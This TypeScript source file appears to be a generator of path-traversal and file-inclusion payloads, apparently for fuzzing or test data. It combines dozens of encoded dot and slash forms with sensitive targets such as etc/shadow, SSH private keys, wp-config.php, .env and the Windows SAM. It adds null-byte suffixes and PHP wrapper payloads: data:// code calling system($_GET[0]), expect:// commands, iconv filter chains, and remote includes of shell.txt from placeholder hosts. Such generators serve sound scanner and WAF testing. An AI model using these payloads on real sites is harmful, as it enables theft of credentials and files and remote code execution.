// Ways to files outside of the site: dots and slashes in every way that some server has decoded them, in front of the
// files that are asked for, and wrappers that read files for PHP and Java.

import type { Picker } from './picker.ts';

const DOTS = [
  '..', '..', '..', '..', '%2e%2e', '%2E%2E', '%2e.', '.%2e', '%252e%252e', '%25252e%25252e', '%c0%ae%c0%ae', '%c0%2e%c0%2e', '%e0%80%ae%e0%80%ae', '%e0%40%ae%e0%40%ae', '%c0ae%c0ae', '%f0%80%80%ae%f0%80%80%ae', '%u002e%u002e', '%uff0e%uff0e', '%25c0%25ae%25c0%25ae', '%%32%65%%32%65', '%32%65%32%65', '0x2e0x2e', '...', '....', '.....', '.?', '..%00', '.%00.', '\\..', '%5c..', '%5c%2e%2e', '..;', '..%01', '．．', '&#46;&#46;', '\\u002e\\u002e', '\\x2e\\x2e', '%c0%5e%c0%5e', '%c0%6e%c0%6e', '%f8%80%80%80%ae%f8%80%80%80%ae', '%fc%80%80%80%80%ae%fc%80%80%80%80%ae', '%uFF0E%uFF0E', '..%0d', '%25%32%65%25%32%65', '%%c0%ae%%c0%ae', '%2%65%2%65', '<..>', '%3f%2e%2e', '..%20', '..%c2%a0', '%e2%80%a5', '‥', '%c1%ae', '%u2024%u2024',
];
const SLASHES = [
  '/', '/', '/', '/', '\\', '\\', '%2f', '%2F', '%5c', '%5C', '%252f', '%255c', '%25252f', '%c0%af', '%c0%2f', '%c1%9c', '%c1%af', '%c0%5c', '%c0af', '%e0%80%af', '%e0%40%af', '%f0%80%80%af', '%u2215', '%u2216', '%uEFC8', '%uF025', '%u002f', '%u005c', '%25c0%25af', '%25c1%259c', '%%32%66', '%%35%63', '0x2f', '0x5c', '//', '///', '\\\\', '\\/', '/\\', './/', '/./', '/.\\', '%2f%2f', '%5c%5c', '%5c/', '/%5c', '%c0%80%5c', '%c0%9v', '%c1%8s', '%c1%pc', '%c0%qf', '%bg%qf', '%c0%80/', '%255f', '／', '＼', '∕', '∖', '&#47;', '\\u002f', '\\x2f', '%f8%80%80%80%af', '%fc%80%80%80%80%af', '%5c%2f', '%u014e', '%u0024/', '%09/', '%00/', '%0a/', '%0d/', ';/', '%3b/', '?/', '%3f/', '%23/', '%25%32%66', '%25%35%63', '%2%66', '%%c0%af', '%ef%bc%8f', '%e2%88%95', '%ef%bc%bc', '..//',
];
const UNIX = ['etc/passwd', 'etc/passwd', 'etc/passwd', 'etc/shadow', 'etc/issue', 'etc/hosts', 'etc/group', 'etc/hostname', 'proc/self/environ', 'proc/self/cmdline', 'proc/version', 'proc/self/fd/1', 'proc/self/maps', 'proc/self/status', 'var/log/apache2/access.log', 'var/log/nginx/error.log', 'var/log/auth.log', 'var/log/messages', 'etc/ssh/sshd_config', 'root/.ssh/id_rsa', 'root/.bash_history', 'home/user/.ssh/authorized_keys', 'etc/apache2/apache2.conf', 'etc/httpd/conf/httpd.conf', 'etc/nginx/nginx.conf', 'etc/mysql/my.cnf', 'etc/php.ini', 'etc/crontab', 'etc/fstab', 'etc/motd', 'etc/resolv.conf', 'var/www/html/index.php', 'var/www/html/wp-config.php', 'var/mail/root', 'etc/master.passwd', 'etc/security/passwd', 'usr/local/apache2/logs/access_log', 'tmp/sess_abc', 'dev/null', 'dev/random', 'boot/grub/grub.cfg', 'etc/redhat-release', 'etc/network/interfaces', 'etc/sudoers', 'opt/lampp/etc/httpd.conf', 'var/lib/php/sessions/sess_x', 'lib/x86_64-linux-gnu/libc.so.6', 'bin/id', 'bin/ls'];
const WINDOWS = ['boot.ini', 'boot.ini', 'windows/win.ini', 'winnt/win.ini', 'windows/system32/drivers/etc/hosts', 'windows/system32/cmd.exe', 'windows/system.ini', 'windows/repair/sam', 'windows/system32/config/sam', 'winnt/system32/cmd.exe?/c+dir+c:', 'inetpub/wwwroot/web.config', 'windows/php.ini', 'apache/logs/access.log', 'xampp/apache/conf/httpd.conf', 'windows/iis.log', 'autoexec.bat', 'windows/explorer.exe', 'sysprep.inf', 'unattend.xml', 'program files/apache group/apache/conf/httpd.conf'];
const SITE = ['WEB-INF/web.xml', 'META-INF/MANIFEST.MF', 'config.php', 'web.config', 'wp-config.php', '.env', '.htaccess', '.htpasswd', '.git/config', 'sites/default/settings.php', 'index.php', 'config/database.yml', 'application.properties', 'package.json', 'config.inc.php', 'conf/server.xml', 'admin/config.php', 'id_rsa', 'database.sql', 'global.asa', 'passwd', 'secret.txt', 'app/etc/local.xml', 'file.txt', 'local_settings.py', 'etc', 'x', 'flag', '.ssh/id_rsa', 'composer.json'];
const ENDS = ['', '', '', '', '', '', '%00', '%00.jpg', '\u0000', '\u0000.png', '%2500', '%00index.html', ';index.html', '?', '#', '%00.html', '%20', '::$DATA', '.', '/.', '%3f', '%23', '%0a', '/././././.', '%00%00', '?.html', '%2500.html', '\\.\\', '....................', '%00.pdf', ';.txt'];

function target(p: Picker, slash: string): string {
  const plain = p.pick([p.pick(UNIX), p.pick(UNIX), p.pick(WINDOWS), p.pick(SITE)]);
  return plain.replaceAll('/', () => slash);
}

function dots(p: Picker): string {
  const isPlain = p.chance(0.3);
  const dot = isPlain ? '..' : p.pick(DOTS);
  const slash = isPlain && p.chance(0.5) ? p.pick(['/', '\\']) : p.pick(SLASHES);
  const depth = p.chance(0.2) ? p.int(9, 24) : p.int(1, 8);
  const isMixed = p.chance(0.1);
  let up = '';
  for (let level = 0; level < depth; level += 1) up += isMixed ? p.pick(DOTS) + p.pick(SLASHES) : dot + slash;
  const front = p.pick(['', '', '', '', '/', slash, `${p.letters(2, 8)}/`, `/${p.letters(2, 8)}${slash}`, './', '//', 'file://', 'C:\\', '/var/www/images/', '\\', `${p.letters(2, 6)}.php/`, 'static/', '%2f', '///', '/././', '.\\', '/%5c', `${p.letters(3, 6)}.jpg${slash}`, '/..', 'c:/']);
  return front + up + target(p, p.chance(0.6) ? slash : '/') + p.pick(ENDS);
}

function absolute(p: Picker): string {
  const file = p.pick(UNIX);
  return p.pick([
    `/${file}`, `/${file}`, `//${file}`, `file:///${file}`, `file://localhost/${file}`, `C:\\${p.pick(WINDOWS).replaceAll('/', '\\')}`, `c:/${p.pick(WINDOWS)}`, `\\\\${p.letters(3, 8)}.example\\share\\${p.letters(2, 6)}.php`, `\\\\localhost\\c$\\${p.pick(WINDOWS).replaceAll('/', '\\')}`, `%2f${file.replaceAll('/', '%2f')}`, `%252f${file.replaceAll('/', '%252f')}`, `/./././././././${file}`, `/${file}%00`, `/%2e/${file}`, `///${file}`, `\\\\?\\C:\\${p.pick(WINDOWS).replaceAll('/', '\\')}`, `/proc/self/root/${file}`, `/${file.replaceAll('/', '/./')}`, `/${file.replaceAll('/', '//')}`, `FILE:///c|/${p.pick(WINDOWS)}`, `netdoc:///${file}`, `//localhost/${file}`, `/%c0%af${file}`, `/${p.letters(2, 6)}/..;/${p.letters(3, 8)}`, `/.%252e/.%252e/${file}`, `/cgi-bin/.%2e/.%2e/.%2e/${file}`, `/cgi-bin/%%32%65%%32%65/bin/sh`, `/icons/.%2e/%2e%2e/${file}`,
  ]);
}

function wrapper(p: Picker): string {
  const file = p.pick([p.pick(SITE), 'index.php', `/${p.pick(UNIX)}`, `../${p.pick(SITE)}`]);
  return p.pick([
    `php://filter/convert.base64-encode/resource=${file}`, `php://filter/read=string.rot13/resource=${file}`, `pHp://FilTer/convert.base64-encode/resource=${file}`, `php://filter/convert.iconv.utf-8.utf-16/resource=${file}`, `php://filter/zlib.deflate/convert.base64-encode/resource=${file}`, `php://filter/${p.many(2, 6, '|', () => `convert.iconv.${p.pick(['UTF8.CSISO2022KR', 'SE2.UTF-16', 'L5.UTF-32', 'UTF8.UTF7', 'IBM869.UTF16', 'ISO88594.GB13000'])}`)}/resource=php://temp`, 'php://input', 'php://stdin', `phar://${p.letters(2, 8)}.${p.pick(['jpg', 'phar', 'zip', 'png'])}/${p.letters(1, 6)}.php`, `zip://${p.letters(2, 8)}.jpg%23${p.letters(1, 6)}`, `zip://${p.letters(2, 8)}.zip#${p.letters(1, 6)}.php`, `data://text/plain,<?php ${p.pick(['phpinfo()', 'system($_GET[0])', 'echo 1'])};?>`, `data://text/plain;base64,PD9waHAg${p.from('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 10, 50)}`, `data:text/plain;base64,PD9waHAg${p.from('abcdefghijklmnopqrstuvwxyz0123456789', 10, 50)}`, `expect://${p.pick(['id', 'ls', 'whoami', 'cat /etc/passwd'])}`, `ogg://${file}`, `glob:///${p.letters(1, 4)}*`, `compress.zlib://${file}`, `compress.bzip2://${file}`, `rar://${p.letters(2, 8)}.rar#x`, `ssh2.exec://u:p@${p.letters(3, 8)}.example:22/ls`, `file:///${p.pick(UNIX)}`, `jar:http://${p.letters(3, 8)}.example/a.jar!/`, `jar:file:///tmp/a.jar!/x`, `php://fd/3`, `php://filter/resource=http://${p.letters(3, 8)}.example/shell.txt`,
  ]);
}

/** As bytes that were decoded once and are no UTF-8: what the site's own decoder leaves of overlong forms. */
export function decodedOnce(text: string): string {
  const bytes: number[] = [];
  for (let at = 0; at < text.length; at += 1) {
    const hex = /^%[0-9a-f]{2}/iu.exec(text.slice(at, at + 3))?.[0];
    if (hex !== undefined) {
      bytes.push(Number.parseInt(hex.slice(1), 16));
      at += 2;
    } else bytes.push(...Buffer.from(text[at] ?? '', 'utf8'));
  }
  return Buffer.from(bytes).toString('utf8');
}

export function traversal(p: Picker): string {
  const kind = p.int(0, 99);
  const text = kind < 76 ? dots(p) : kind < 90 ? absolute(p) : wrapper(p);
  return text.includes('%') && p.chance(0.45) ? decodedOnce(text) : text;
}
